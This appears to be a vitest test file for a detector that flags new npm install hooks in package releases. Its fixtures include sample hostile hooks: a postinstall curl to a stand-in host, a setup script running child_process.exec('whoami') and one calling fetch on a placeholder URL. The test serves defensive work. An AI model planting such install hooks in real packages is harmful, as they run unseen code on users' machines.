import { expect, test } from "vitest";

import { subjectOf } from "../../test/sample.ts";
import type { Sample } from "../../test/sample.ts";
import { testDetector } from "../../test/test-detector.ts";
import { detect } from "../detect.ts";
import { newInstallHook } from "./index.ts";

const before: Sample = {
  "before/package.json": '{"name":"sample","version":"1.0.0","main":"index.js"}',
  "before/index.js": "module.exports = 1;\n",
};

function after(script: string, files: Sample): Sample {
  const manifest = { name: "sample", version: "1.0.1", main: "index.js", scripts: { postinstall: script } };
  return {
    ...before,
    "package.json": JSON.stringify(manifest),
    "index.js": "module.exports = 1;\n",
    ...files,
  };
}

testDetector(newInstallHook, {
  fires: {
    "a hook that downloads": ["strong", after("curl -s https://collector.invalid/x", {})],
    "a script that starts a process": [
      "strong",
      after("node setup.js", { "setup.js": 'require("child_process").exec("whoami");\n' }),
    ],
    "a message": ["supporting", after("node notice.js", { "notice.js": 'console.log("hello");\n' })],
    "a build description": [
      "supporting",
      {
        ...after("", {}),
        "package.json": '{"name":"sample","version":"1.0.1","main":"index.js"}',
        "binding.gyp": "{}",
      },
    ],
  },
  silent: {
    "a package that is new": {
      "package.json": '{"name":"sample","version":"1.0.1","scripts":{"postinstall":"node a.js"}}',
      "a.js": "1;\n",
    },
    "a script that no install runs": after("", {
      "package.json": '{"name":"sample","version":"1.0.1","scripts":{"test":"node t.js"}}',
    }),
  },
});

test.each<readonly [string, string, Sample]>([
  [
    "starts a program of a dependency",
    "supporting",
    after("node setup.js", {
      "setup.js": 'require("child_process").exec("node node_modules/compiler/bin/compile -o lib/ src/");\n',
    }),
  ],
  [
    "starts a program with code in its line",
    "strong",
    after("node setup.js", { "setup.js": 'require("child_process").exec("node -e 1");\n' }),
  ],
  [
    "follows a release that only kept the name",
    "supporting",
    afterPlaceholder("fetch('https://a.invalid');"),
  ],
  ["follows such a release and cannot be read", "strong", afterPlaceholder("const (")],
])("newInstallHook says of a first hook that %s: %s", (_what, strength, sample) => {
  const { findings } = detect(subjectOf(sample), [newInstallHook]);

  expect(findings.map((finding) => finding.strength)).toEqual([strength]);
});

function afterPlaceholder(script: string): Sample {
  const { "before/index.js": _code, ...rest } = after("node setup.js", { "setup.js": script });
  return { ...rest, "before/package.json": '{"name":"sample","version":"0.0.0"}' };
}
